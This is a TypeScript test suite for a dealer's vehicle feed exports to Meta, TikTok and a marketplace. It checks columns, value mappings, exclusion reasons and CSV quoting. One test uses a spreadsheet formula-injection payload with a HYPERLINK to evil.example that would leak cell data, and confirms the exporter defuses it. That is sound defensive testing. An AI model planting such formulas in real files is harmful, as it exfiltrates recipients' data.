import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { BODY_TYPES, FUEL_TYPES } from "../inventory/used-query.ts";
import type { StockRow } from "../inventory/used-vehicles.server.ts";
import type { ChannelContext } from "./channel.ts";
import { CHANNELS, channelById, ChannelStock, serialiseFeed } from "./channels.server.ts";
import { MARKETPLACE_BODY_TYPES, MARKETPLACE_FUEL_TYPES } from "./marketplace.server.ts";
import { META_BODY_STYLES, META_FUEL_TYPES } from "./meta-vehicles.server.ts";
import { TIKTOK_BODY_STYLES, TIKTOK_FUEL_TYPES } from "./tiktok-vehicles.server.ts";

/**
 * Each channel's documented columns and value rules, written from its public field reference:
 * - Meta vehicles: "Automotive Inventory Ads - Catalogs and Feeds", Supported Auto Inventory Catalog Fields - Vehicle
 *   (https://developers.facebook.com/docs/marketing-api/dynamic-ads-auto/auto-catalog/) and the feed reference
 *   (https://developers.facebook.com/docs/marketing-api/auto-ads/reference/): body_style "CONVERTIBLE, COUPE,
 *   HATCHBACK, MINIVAN, TRUCK, SUV, SEDAN, VAN, WAGON, CROSSOVER, or OTHER"; vin exactly 17; description at most
 *   5000; fb_page_id an int (required for Marketplace); latitude and longitude.
 * - TikTok vehicles: "Available fields for Automotive Ads inventory catalogs"
 *   (https://ads.tiktok.com/help/article/available-fields-for-automotive-ads-inventory-catalogs): vehicle_id at
 *   most 100; title at most 500, "Recommend 40 or less for full title display"; description at most 5000;
 *   make and model at most 100; body_style CONVERTIBLE, COUPE, HATCHBACK, MINIVAN, TRUCK, SUV, SEDAN, VAN, WAGON,
 *   CROSSOVER, SMALL_CAR or OTHER; mileage.unit MI or KM.
 * - Meta products: Meta's product catalogue fields (title at most 200, description at most 9999).
 * - Marketplace: our own export (docs/channels.md), no outside list.
 */
const absoluteUrl = z.string().regex(/^https?:\/\/[^\s]+$/);
const jpegOrPngUrl = z.string().regex(/^https?:\/\/\S+\.(?:jpe?g|png)$/i);
const optionalImage = z.union([z.literal(""), jpegOrPngUrl]);
const vin = z.string().regex(/^[A-HJ-NPR-Z0-9]{17}$/);
const wholeNumber = z.string().regex(/^\d+$/);
const zarPrice = z.string().regex(/^\d+ ZAR$/);
const degrees = (limit: number) =>
  z.string().refine((text) => text !== "" && Math.abs(Number(text)) <= limit, "degrees within range");
const imageList = z
  .string()
  .refine((text) => text === "" || text.split(",").every((url) => jpegOrPngUrl.safeParse(url).success));

const META_BODY = [
  "CONVERTIBLE",
  "COUPE",
  "HATCHBACK",
  "MINIVAN",
  "TRUCK",
  "SUV",
  "SEDAN",
  "VAN",
  "WAGON",
  "CROSSOVER",
  "OTHER",
] as const;
const TIKTOK_BODY = [
  "CONVERTIBLE",
  "COUPE",
  "HATCHBACK",
  "MINIVAN",
  "TRUCK",
  "SUV",
  "SEDAN",
  "VAN",
  "WAGON",
  "CROSSOVER",
  "SMALL_CAR",
  "OTHER",
] as const;
const TIKTOK_RECOMMENDED_TITLE = 40;

const metaVehicleRow = z
  .object({
    vehicle_id: vin,
    vin,
    title: z.string().min(1).max(500),
    description: z.string().min(50).max(5000),
    url: absoluteUrl,
    make: z.string().min(1),
    model: z.string().min(1),
    trim: z.string(),
    year: z.string().regex(/^(19|20)\d\d$/),
    body_style: z.enum(META_BODY),
    exterior_color: z.string().min(1),
    fuel_type: z.enum(["DIESEL", "ELECTRIC", "GASOLINE", "FLEX", "HYBRID", "PETROL", "PLUGIN_HYBRID", "OTHER"]),
    transmission: z.enum(["AUTOMATIC", "MANUAL"]),
    "mileage.value": wholeNumber,
    "mileage.unit": z.literal("KM"),
    price: zarPrice,
    state_of_vehicle: z.enum(["NEW", "USED", "CPO"]),
    availability: z.enum(["AVAILABLE", "NOT_AVAILABLE", "PENDING"]),
    dealer_id: z.string().min(1),
    dealer_name: z.string().min(1),
    fb_page_id: z.string().regex(/^\d+$/),
    latitude: degrees(90),
    longitude: degrees(180),
    "address.addr1": z.string().min(1),
    "address.city": z.string().min(1),
    "address.region": z.string().min(1),
    "address.postal_code": z.string().regex(/^\d{4}$/),
    "address.country": z.literal("ZA"),
    "image[0].url": jpegOrPngUrl,
  })
  .catchall(optionalImage);

const metaProductRow = z.strictObject({
  id: vin,
  title: z.string().min(1).max(200),
  description: z.string().min(50).max(9999),
  availability: z.enum(["in stock", "out of stock", "preorder", "available for order", "discontinued"]),
  condition: z.enum(["new", "refurbished", "used"]),
  price: zarPrice,
  link: absoluteUrl,
  image_link: jpegOrPngUrl,
  additional_image_link: imageList,
  brand: z.string().min(1),
});

const tiktokRow = z.strictObject({
  vehicle_id: z.string().min(1).max(100),
  vin,
  title: z.string().min(1).max(TIKTOK_RECOMMENDED_TITLE),
  description: z.string().min(1).max(5000),
  url: absoluteUrl,
  make: z.string().min(1).max(100),
  model: z.string().min(1).max(100),
  trim: z.string(),
  year: z.string().regex(/^\d{4}$/),
  body_style: z.enum(TIKTOK_BODY),
  exterior_color: z.string(),
  fuel_type: z.string().min(1),
  transmission: z.enum(["AUTOMATIC", "MANUAL"]),
  "mileage.value": wholeNumber,
  "mileage.unit": z.enum(["KM", "MI"]),
  price: zarPrice,
  state_of_vehicle: z.enum(["NEW", "USED", "CPO"]),
  image_link: jpegOrPngUrl,
  additional_image_link: imageList,
});

const marketplaceFields = {
  StockNo: z.string().min(1),
  VinNo: vin,
  MMCode: z.string().regex(/^(\d{8})?$/),
  Regno: z.string(),
  Make: z.string().min(1),
  Model: z.string().min(1),
  Variant: z.string(),
  Colour: z.string().min(1),
  Fuel: z.string().min(1),
  Transmission: z.enum(["Automatic", "Manual"]),
  Bodytype: z.string().min(1),
  Description: z.string().min(30),
  Url: absoluteUrl,
  Dealer: z.string().min(1),
};
const marketplaceCsvRow = z
  .object({
    ...marketplaceFields,
    ModelYear: wholeNumber,
    Mileage: wholeNumber,
    Price: wholeNumber,
    Image1: jpegOrPngUrl,
  })
  .catchall(optionalImage);
const marketplaceJsonRow = z.strictObject({
  ...marketplaceFields,
  ModelYear: z.number().int(),
  Mileage: z.number().int().min(0),
  Price: z.number().int().positive(),
  Images: z.array(jpegOrPngUrl).min(1),
});

const SITE = "https://cars.example.co.za";
const dealer = {
  id: 1,
  slug: "honda-sandton",
  name: "Honda Sandton",
  street: "1 Rivonia Road",
  city: "Sandton",
  province: "Gauteng",
  postalCode: "2196",
  fbPageId: "104329871234567",
  latitude: -26.1076,
  longitude: 28.0567,
};
const otherDealer = { ...dealer, id: 2, slug: "honda-menlyn", name: "Honda Menlyn" };
const context: ChannelContext = { siteUrl: SITE, dealer };

const DESCRIPTION = "One owner, full service history at Honda, two keys, spare wheel never used.";
const photo = (hash: string): StockRow["images"][number] => [
  `/media/images/${hash}.jpg`,
  [
    [`${hash}a`, "jpeg", 640, 480],
    [`${hash}b`, "jpeg", 1440, 1080],
  ],
];

let nextId = 1;
function stockRow(overrides: Partial<StockRow> = {}): StockRow {
  const id = nextId++;
  return {
    id,
    variant: "1.5 Elegance CVT",
    year: 2021,
    mileageKm: 45_000,
    price: 329_900,
    transmission: "Automatic",
    fuelType: "Petrol",
    state: "Used",
    exteriorColor: "White",
    status: "Available",
    bodyType: "Hatchback",
    make: ["Honda", "honda"],
    model: ["Fit", "fit"],
    dealer: [dealer.name, dealer.slug, dealer.province],
    images: [photo(`p${id}`), ["/media/vehicles/hatch/f4f5f2/studio.svg", null]],
    dealerId: dealer.id,
    priceChanges: [],
    vin: `MRHGK5860MP${String(100000 + id)}`,
    stockNumber: `SAN${id}`,
    registration: "HX 12 BC GP",
    mmCode: "19045120",
    description: DESCRIPTION,
    features: null,
    updatedAt: new Date("2026-11-20T08:00:00Z"),
    ...overrides,
  };
}

const motorcycle = (overrides: Partial<StockRow> = {}) =>
  stockRow({
    bodyType: "Motorcycle",
    make: ["Honda", "honda"],
    model: ["CB650R", "cb650r"],
    variant: "Manual",
    transmission: "Manual",
    ...overrides,
  });

/** A channel's file as text. */
const fileText = async (...args: Parameters<typeof serialiseFeed>) =>
  Buffer.concat(await serialiseFeed(...args)).toString("utf8");

function csvRecords(text: string): Record<string, string>[] {
  return parse(text, { columns: true, skip_empty_lines: true, bom: true });
}

const mixedStock = () =>
  ChannelStock.of([
    stockRow(),
    stockRow({ status: "Reserved", bodyType: "SUV" }),
    stockRow({ bodyType: "Bakkie", fuelType: "Diesel", transmission: "Manual" }),
    motorcycle(),
  ]);

describe("each channel's file", () => {
  it("Meta vehicles: Meta's columns and values, a reserved car PENDING, no motorcycles", async () => {
    const channel = channelById("meta-vehicles")!;
    const { rows, leftOut } = await (await mixedStock()).feed(channel, context);
    const records = csvRecords(await fileText(channel, "csv", rows));
    expect(leftOut).toEqual([]);
    expect(records).toHaveLength(3);
    for (const record of records) metaVehicleRow.parse(record);
    expect(records.map((r) => r.availability)).toEqual(["AVAILABLE", "PENDING", "AVAILABLE"]);
    expect(records[0]).toMatchObject({
      price: "329900 ZAR",
      "mileage.value": "45000",
      "mileage.unit": "KM",
      body_style: "HATCHBACK",
      "address.country": "ZA",
    });
    expect(records[2]!.body_style).toBe("TRUCK");
    expect(records[0]).toMatchObject({
      dealer_id: "honda-sandton",
      fb_page_id: "104329871234567",
      latitude: "-26.1076",
      longitude: "28.0567",
    });
    // The photo's largest JPEG first, then the drawing rendered to JPEG; never an SVG.
    expect(records[0]!["image[0].url"]).toMatch(/^https:\/\/cars\.example\.co\.za\/media\/images\/p\d+b\.jpg$/);
    expect(records[0]!["image[1].url"]).toBe(`${SITE}/media/vehicles/hatch/f4f5f2/studio.jpg`);
  });

  it("Meta products: the motorcycles only, available ones", async () => {
    const channel = channelById("meta-products")!;
    const bikes = await ChannelStock.of([motorcycle(), motorcycle({ status: "Reserved" }), stockRow()]);
    const records = csvRecords(await fileText(channel, "csv", (await bikes.feed(channel, context)).rows));
    expect(records).toHaveLength(1);
    metaProductRow.parse(records[0]);
    expect(records[0]).toMatchObject({ brand: "Honda", condition: "used", availability: "in stock" });
  });

  it("TikTok vehicles: TikTok's columns; a reserved car is absent; a motorcycle is left out with its reason", async () => {
    const channel = channelById("tiktok-vehicles")!;
    const { rows, leftOut } = await (await mixedStock()).feed(channel, context);
    const records = csvRecords(await fileText(channel, "csv", rows));
    expect(records).toHaveLength(2);
    for (const record of records) tiktokRow.parse(record);
    expect(leftOut).toEqual([
      expect.objectContaining({ reasons: ['Body style "Motorcycle" has no value in TikTok\'s list'] }),
    ]);
  });

  it("Marketplace: the same rows as CSV and as JSON, reserved absent, motorcycles included", async () => {
    const channel = channelById("marketplace")!;
    const { rows } = await (await mixedStock()).feed(channel, context);
    const csv = csvRecords(await fileText(channel, "csv", rows));
    const json = JSON.parse(await fileText(channel, "json", rows)) as unknown[];
    expect(csv).toHaveLength(3);
    for (const record of csv) marketplaceCsvRow.parse(record);
    for (const item of json) marketplaceJsonRow.parse(item);
    expect(json).toHaveLength(3);
    expect(json[0]).toMatchObject({
      StockNo: csv[0]!.StockNo,
      Price: 329_900,
      MMCode: "19045120",
      Regno: "HX 12 BC GP",
    });
    expect((json as { Bodytype: string }[]).map((item) => item.Bodytype)).toEqual([
      "Hatchback",
      "Bakkie",
      "Motorcycle",
    ]);
  });

  it("quotes a description with commas, quotes and line breaks so the file still parses", async () => {
    const channel = channelById("meta-vehicles")!;
    const description = 'Says "as new", has a tow bar,\nand a full service history at Honda Sandton.';
    const records = csvRecords(
      await fileText(
        channel,
        "csv",
        (await (await ChannelStock.of([stockRow({ description })])).feed(channel, context)).rows,
      ),
    );
    expect(records[0]!.description).toBe(description);
  });
});

describe("values each channel's list takes", () => {
  it("a bakkie is Meta's and TikTok's TRUCK, an MPV their MINIVAN", async () => {
    const stock = await ChannelStock.of([stockRow({ bodyType: "Bakkie" }), stockRow({ bodyType: "MPV" })]);
    for (const id of ["meta-vehicles", "tiktok-vehicles"]) {
      const { rows } = await stock.feed(channelById(id)!, context);
      expect(rows.map((row) => row.body_style)).toEqual(["TRUCK", "MINIVAN"]);
    }
  });

  it("TikTok's title stays within its recommended 40 characters, whole words of the variant only", async () => {
    const long = stockRow({
      make: ["Mercedes-Benz", "mercedes-benz"],
      model: ["GLE", "gle"],
      variant: "GLE 400d 4Matic Coupe AMG Line",
    });
    const channel = channelById("tiktok-vehicles")!;
    const { rows } = await (await ChannelStock.of([long, stockRow()])).feed(channel, context);
    expect(rows.map((row) => row.title)).toEqual([
      "2021 Mercedes-Benz GLE GLE 400d 4Matic",
      "2021 Honda Fit 1.5 Elegance CVT",
    ]);
  });

  it("every vehicle channel's description carries the features and extras the dealer lists, after its words", async () => {
    const stock = await ChannelStock.of([stockRow({ features: "Tow bar, Cruise control\nLeather seats" })]);
    const expected = `${DESCRIPTION}\n\nFeatures: Tow bar, Cruise control, Leather seats.`;
    for (const [id, column] of [
      ["meta-vehicles", "description"],
      ["tiktok-vehicles", "description"],
      ["marketplace", "Description"],
    ] as const) {
      const { rows } = await stock.feed(channelById(id)!, context);
      expect(rows[0]![column], id).toBe(expected);
    }
  });

  it("a description written as a spreadsheet formula reaches every CSV file as text, and the JSON file as it is", async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"x") and a full service history at Honda Sandton';
    const stock = await ChannelStock.of([stockRow({ description: formula })]);
    for (const id of ["meta-vehicles", "tiktok-vehicles", "marketplace"]) {
      const channel = channelById(id)!;
      const [record] = csvRecords(await fileText(channel, "csv", (await stock.feed(channel, context)).rows));
      expect(record!.description ?? record!.Description).toBe(`'${formula}`);
    }
    const marketplace = channelById("marketplace")!;
    const json = JSON.parse(await fileText(marketplace, "json", (await stock.feed(marketplace, context)).rows));
    expect(json[0].Description).toBe(formula);
  });
});

describe("a large file", () => {
  it("written piece by piece between turns of the event loop, is byte for byte the file written at once", async () => {
    const awkward = [
      'Says "as new", has a tow bar,\nand a full service history.',
      "Plain words, long enough for every channel's rule of length.",
      "Ünïcode, em dash — and a semicolon; all kept as they are.",
    ];
    const rows = Array.from({ length: 1_234 }, (_, i) =>
      stockRow({ description: `${awkward[i % awkward.length]} Vehicle ${i}.`, price: 100_000 + i }),
    );
    const stock = await ChannelStock.of(rows);
    for (const channel of CHANNELS) {
      const { rows: feedRows } = await stock.feed(channel, context);
      const whole = stringify(feedRows, {
        header: true,
        columns: channel.columns as string[],
        record_delimiter: "\r\n",
      });
      expect(await fileText(channel, "csv", feedRows)).toBe(whole);
      if (channel.jsonRow)
        expect(await fileText(channel, "json", feedRows)).toBe(
          JSON.stringify(feedRows.map((row) => channel.jsonRow!(row))),
        );
    }
    expect((await stock.feed(channelById("meta-vehicles")!, context)).rows).toHaveLength(rows.length);
    const empty = channelById("tiktok-vehicles")!;
    expect(await fileText(empty, "csv", [])).toBe(
      stringify([], { header: true, columns: empty.columns as string[], record_delimiter: "\r\n" }),
    );
  });
});

describe("the channels' rules", () => {
  it("leaves out a vehicle without a VIN, a short VIN, no usable picture or a short description, each with its reason", async () => {
    const stock = await ChannelStock.of([
      stockRow({ vin: null }),
      stockRow({ vin: "MRHGK5860MP1" }),
      stockRow({
        images: [
          ["/media/vehicles/hatch/f4f5f2/studio.png", null],
          ["/uploads/photo.webp", null],
        ],
      }),
      stockRow({ images: [["/media/images/small.jpg", [["small", "jpeg", 640, 400]]]] }),
      stockRow({ description: "Clean car." }),
      stockRow(),
    ]);
    for (const channel of CHANNELS.filter((c) => c.id !== "meta-products")) {
      const { rows, leftOut } = await stock.feed(channel, context);
      expect(rows).toHaveLength(1);
      expect(leftOut.map((item) => item.reasons[0])).toEqual([
        "No VIN",
        "VIN must be 17 characters (this one has 12)",
        "No JPEG or PNG photo at least 500 px on its short side",
        "No JPEG or PNG photo at least 500 px on its short side",
        expect.stringMatching(/^Description is 10 characters; the channel needs at least \d+$/),
      ]);
    }
  });

  it("publishes one row per VIN across the group: the dealer whose DMS stock number the car carries keeps it, the other is told", async () => {
    const vinOfBoth = "MRHGK5860MP200001";
    const own = stockRow({
      vin: vinOfBoth,
      dealerId: otherDealer.id,
      dealer: [otherDealer.name, otherDealer.slug, otherDealer.province],
    });
    const copy = stockRow({ vin: vinOfBoth, stockNumber: null });
    const stock = await ChannelStock.of([copy, own]);
    const channel = channelById("meta-vehicles")!;
    const mine = await stock.feed(channel, context);
    const theirs = await stock.feed(channel, { siteUrl: SITE, dealer: otherDealer });
    expect(mine.rows).toEqual([]);
    expect(mine.leftOut).toEqual([
      expect.objectContaining({
        vehicleId: copy.id,
        reasons: [expect.stringContaining(`listed by Honda Menlyn (vehicle ${own.id})`)],
      }),
    ]);
    expect(theirs.rows.map((row) => row.vin)).toEqual([vinOfBoth]);
  });

  it("two records of one VIN with stock numbers: the one listed first keeps it", async () => {
    const first = stockRow({ vin: "MRHGK5860MP300001" });
    const second = stockRow({
      vin: "MRHGK5860MP300001",
      dealerId: otherDealer.id,
      dealer: [otherDealer.name, otherDealer.slug, otherDealer.province],
    });
    const stock = await ChannelStock.of([second, first]);
    expect([...stock.duplicates.keys()]).toEqual([second.id]);
  });

  it("has a value, or a deliberate 'none', for every body type and fuel type of ours in every channel's list", () => {
    const tables = {
      META_BODY_STYLES,
      TIKTOK_BODY_STYLES,
      MARKETPLACE_BODY_TYPES,
      META_FUEL_TYPES,
      TIKTOK_FUEL_TYPES,
      MARKETPLACE_FUEL_TYPES,
    };
    for (const [name, table] of Object.entries(tables)) {
      const ours: readonly string[] = name.includes("BODY") ? BODY_TYPES : FUEL_TYPES;
      for (const value of ours) expect(table, `${name} has no entry for ${value}`).toHaveProperty([value]);
    }
  });
});
